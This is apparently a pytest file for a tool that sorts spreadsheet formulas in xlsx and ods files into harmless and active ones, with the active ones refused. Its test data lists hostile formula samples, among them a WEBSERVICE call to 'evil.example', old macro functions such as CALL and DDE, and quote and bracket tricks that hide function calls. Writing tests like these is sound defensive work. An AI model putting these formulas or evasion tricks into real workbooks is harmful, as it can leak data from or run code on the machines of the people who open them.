"""Formulas: an allow-list of functions that only work something out, in cells, names, rules and charts; everything else acts."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.attacks.books import changed
from tests.workbooks.test_harmless import opendocument, xlsx
from workbooks.annotate import Notice, Unpatchable, annotate
from workbooks.harmless import Fitness, look_through
from workbooks.harmless.formulas import calls_others

ODS_CELL = "<table:table-cell table:formula='{}'/>"

REACHING = (
    "=_xlfn.BYROW(A1:A2,_xleta.WEBSERVICE)",
    "=_xlfn.MAP(A1,_xleta.WEBSERVICE)",
    "=_xlfn.MAP(A1,_xleta.IMAGE)",
    "=_xlfn.MAP(A1,_xleta.HYPERLINK)",
    "=_xlfn.LAMBDA(_xlpm.f,_xlpm.f(A1))(_xleta.WEBSERVICE)",
    '=_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http"&CHAR(58)&"//evil.example/"))',
    '=_xlfn.COPILOT("summarise",A1)',
    '=_xlfn.STOCKHISTORY("MSFT",1)',
    '=_xlfn.TRANSLATE(A1,"en","fr")',
    "=_xlfn.DETECTLANGUAGE(A1)",
    "=_xlfn._xlws.PY(0,1,A1)",
    "=_xlws.PY(0,1,A1)",
    "=_xldudf_EVIL_FETCH(A1)",
    "=_xll.FETCH(A1)",
    "=FOO.XLL.FETCH(A1)",
    "=EVIL(A1)",
    "=evil (A1)",
    "=Évil(A1)",
    "=_xludf.EVIL(A1)",
    "=PERSONAL.XLSB!SUM(1)",
    "=Sheet1!SUM(1)",
    '=CUBEVALUE("x","y")',
    '=CUBEMEMBER("evil","[x]")',
    "=GOOGLETRANSLATE(A1)",
    '=FILES("x*")',
    '=EVALUATE("1+1")',
    '=REGISTER.ID("a","b")',
    '=CALL("a","b")',
    '=DDE("a","b","c")',
    '=SQL.REQUEST("a")',
    "=IF(A1,SUM(1,EVIL(2)))",
    # What stands between signs that seem to belong together, and do not.
    "=T['[a]+EVIL(A1)+T['[b]",
    "=T[a\"'[b]+EVIL(A1)+T['[c\"d]",
    "=T[[#This Row],[a'[]]+EVIL(A1)+T[b']]",
    '="a""b"&EVIL(A1)&"c"',
    "='It''s'!A1+EVIL(A1)+'x'!A1",
)


@pytest.mark.parametrize("formula", REACHING)
def test_a_workbook_acts_by_a_function_that_is_not_known_to_only_reckon(formula: str) -> None:
    """Whether it is called, or given to another function to be called; under whatever prefix."""
    assert look_through(xlsx(formula=formula), "a.xlsx").fitness is Fitness.ACTIVE


RECKONING = (
    "=SUM(A1:A3)*-(B1)",
    "=IFERROR(VLOOKUP(A1,'Sheet (2)'!A:B,2,FALSE),\"none (yet)\")",
    "=SUMPRODUCT(--(A1:A9>0),B1:B9)",
    "=_xlfn.XLOOKUP(A1,B:B,C:C)",
    '=_xlfn.TEXTJOIN(",",TRUE,A1:A3)',
    "=_xlfn._xlws.FILTER(A1:A9,_xlfn._xlws.SORT(B1:B9)>1)",
    "=_xlfn.LET(_xlpm.x,A1,_xlfn.LAMBDA(_xlpm.y,_xlpm.y+_xlpm.x)(2))",
    "=_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.y,_xlpm.y*2),_xlpm.f(3))",
    "=_xlfn.BYROW(A1:A2,_xleta.SUM)",
    "=_xlfn.GROUPBY(A1:A9,B1:B9,_xleta.AVERAGE)",
    "=_xlfn.ANCHORARRAY(A1)+_xlfn.SINGLE(B1:B2)",
    "=_xlfn.STDEV.S(A1:A9)+_xlfn.FORECAST.ETS(A1,B1:B9,C1:C9)+_xlfn.CEILING.MATH(1.5)",
    '=_xlfn.ORG.LIBREOFFICE.REGEX(A1,"a(b)")',
    "=SUM(Table1[[#This Row],[Amount '[EUR'] (net)]])",
    "=SUM(Table1[f(x)])",
    '=IF(ISBLANK(A1),"","f(x) of ""g(x)""")',
    '=MID(CELL("filename",A1),FIND("]",CELL("filename",A1))+1,31)',
    '=GETPIVOTDATA("Sum",A1,"Year",2024)',
    "=TODAY()-DATE(2024,1,31)+NETWORKDAYS.INTL(A1,A2)",
    "=sum(a1:a2)",
)


@pytest.mark.parametrize("formula", RECKONING)
def test_functions_of_the_standard_only_reckon(formula: str) -> None:
    """Those of ECMA-376, the later ones of Excel and LibreOffice under their prefixes, and what a formula defines for itself."""
    assert look_through(xlsx(formula=formula), "a.xlsx").fitness is Fitness.HARMLESS


@pytest.mark.parametrize(
    "formula",
    [
        "of:=SUM([.A1:.A2])+COUNTIF([$&apos;Sheet (2)&apos;.A1:.A9];&quot;f(x)&quot;)",
        "of:=COM.MICROSOFT.CONCAT([.A1];[.B1])",
        "of:=ORG.OPENOFFICE.WEEKS([.A1];[.B1];0)",
        "of:=ORG.LIBREOFFICE.XLOOKUP([.A1];[.B1];[.C1])",
        "of:=COM.SUN.STAR.SHEET.ADDIN.ANALYSIS.GETEDATE([.A1];1)",
        "msoxl:=SUM(A1:A2)",
        "oooc:=SUM([.A1:.A2])",
    ],
)
def test_functions_of_opendocument_only_reckon(formula: str) -> None:
    """Under the prefixes that LibreOffice writes, and in the older notations."""
    made = opendocument(ODS_CELL.format(formula), kind="spreadsheet")
    assert look_through(made, "a.ods").fitness is Fitness.HARMLESS


@pytest.mark.parametrize(
    "formula",
    [
        "of:=COM.MICROSOFT.WEBSERVICE([.A1])",
        "of:=ORG.EVIL.FETCH([.A1])",
        "of:=EVIL([.A1])",
        "of:=[&apos;a[b&apos;.A1]&amp;EVIL([.A1])&amp;&quot;]&quot;",
        "msoxl:=_xlfn.MAP(A1,_xleta.WEBSERVICE)",
    ],
)
def test_a_spreadsheet_of_opendocument_acts_by_other_functions(formula: str) -> None:
    """As a workbook does."""
    made = opendocument(ODS_CELL.format(formula), kind="spreadsheet")
    assert look_through(made, "a.ods").fitness is Fitness.ACTIVE


CONDITIONS = (
    '<table:content-validation table:condition="of:cell-content-is-in-list(&quot;yes&quot;;&quot;no (never)&quot;)"/>',
    '<table:content-validation table:condition="of:cell-content-is-whole-number() and cell-content()&gt;=0"/>',
    '<table:content-validation table:condition="of:cell-content-text-length-is-between(1;9)"/>',
    '<table:content-validation table:condition="of:is-true-formula(ISTEXT([.A1]))"/>',
    '<style:map xmlns:style="s" style:condition="value()&gt;=0"/>',
    '<style:map xmlns:style="s" style:condition="cell-content-is-between(1,2)"/>',
    '<c:condition xmlns:c="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" c:value="formula-is(ISERROR([.A1]))"/>',
    '<c:condition xmlns:c="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" c:value="begins-with(&quot;f(x)&quot;)"/>',
    '<draw:equation draw:name="f1" draw:formula="if(?f0 ,sin(pi/4)*(width/2),left)"/>',
    '<text:p><a value="Amount (EUR)" title="f(x)"/></text:p>',
)


@pytest.mark.parametrize("body", CONDITIONS)
def test_conditions_and_shapes_of_opendocument_are_no_functions_of_others(body: str) -> None:
    """They have a few words of their own before a bracket, and a text may have any."""
    assert look_through(opendocument(body, kind="spreadsheet"), "a.ods").fitness is Fitness.HARMLESS


@pytest.mark.parametrize(
    "body",
    [
        '<table:content-validation table:condition="of:is-true-formula(EVIL([.A1]))"/>',
        '<c:condition xmlns:c="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" c:value="formula-is(EVIL([.A1]))"/>',
        '<table:named-expression table:expression="EVIL([.A1])"/>',
    ],
)
def test_a_condition_acts_by_other_functions(body: str) -> None:
    """It is a formula as well."""
    assert look_through(opendocument(body, kind="spreadsheet"), "a.ods").fitness is Fitness.ACTIVE


def in_sheet(piece: str) -> bytes:
    """Return a workbook with this piece behind the rows of its sheet."""
    return changed(xlsx(), "xl/worksheets/sheet1.xml", lambda sheet: sheet.replace(b"</sheetData>", b"</sheetData>" + piece.encode()))


@pytest.mark.parametrize(
    ("piece", "fitness"),
    [
        ("<conditionalFormatting><cfRule><formula>EVIL(A1)</formula></cfRule></conditionalFormatting>", Fitness.ACTIVE),
        ("<conditionalFormatting><cfRule><formula>ISERROR(A1)</formula></cfRule></conditionalFormatting>", Fitness.HARMLESS),
        ('<cfRule><colorScale><cfvo type="formula" val="EVIL(A1)"/></colorScale></cfRule>', Fitness.ACTIVE),
        ('<cfRule><colorScale><cfvo type="formula" val="MAX(A1)"/></colorScale></cfRule>', Fitness.HARMLESS),
        ("<dataValidations><dataValidation><formula1>EVIL()</formula1></dataValidation></dataValidations>", Fitness.ACTIVE),
        ('<dataValidations><dataValidation><formula1>"a (b),c"</formula1></dataValidation></dataValidations>', Fitness.HARMLESS),
    ],
)
def test_rules_of_a_sheet_are_formulas_too(piece: str, fitness: Fitness) -> None:
    """Formats and checks that depend on a condition, and the limits of scales."""
    assert look_through(in_sheet(piece), "a.xlsx").fitness is fitness


def named(formula: str) -> bytes:
    """Return a workbook that defines a name."""
    names = f'<definedNames><definedName name="n">{formula}</definedName></definedNames></workbook>'
    return changed(xlsx(), "xl/workbook.xml", lambda book: book.replace(b"</workbook>", names.encode()))


@pytest.mark.parametrize("formula", ["GET.DOCUMENT(1)", "_xlfn.LAMBDA(_xlpm.x,_xleta.WEBSERVICE)"])
def test_a_name_is_a_formula_too(formula: str) -> None:
    """One that a workbook defines may call a function of the old macro language."""
    assert look_through(named(formula), "a.xlsx").fitness is Fitness.ACTIVE


def test_a_name_may_reckon() -> None:
    """As a formula may."""
    assert look_through(named("OFFSET(Sheet!$A$1,0,0,COUNTA(A:A))"), "a.xlsx").fitness is Fitness.HARMLESS


# Each is complete, but has the signs with which others begin or end.
PIECES = ('"a"', '"[b"', '"it\'s"', "'S [1'!A1", "T[a'[b]", "T[[#All],[c'']]", 'T[d"e]', "'x\"y'!B2", "[.A1]")


@given(st.lists(st.sampled_from(PIECES), max_size=3), st.lists(st.sampled_from(PIECES), max_size=3))
def test_whatever_stands_around_it_a_call_of_another_function_is_seen(before: list[str], behind: list[str]) -> None:
    """None of the signs that begin and end texts, names and columns hides what follows it."""
    assert calls_others("&".join((*before, "EVIL(A1)", *behind)))


PAGE = Notice(name="Notice", title="Notice", lines=(), columns=(), rows=(), right_to_left=False)


@pytest.mark.parametrize("formula", ["=_xlfn.MAP(A1,_xleta.WEBSERVICE)", '=_xlfn.COPILOT("summarise",A1)', "=_xlfn._xlws.PY(0,1,A1)"])
def test_a_workbook_that_fetches_something_is_not_given_back(formula: str) -> None:
    """Whoever it claims to be from."""
    with pytest.raises(Unpatchable, match="active"):
        annotate(xlsx(formula=formula), (), PAGE)


def test_a_workbook_with_functions_of_its_agency_is_marked() -> None:
    """They are no functions that every Excel has: its own people know what they do."""
    assert annotate(xlsx(formula="=AGENCY.RATE(A1)"), (), PAGE)
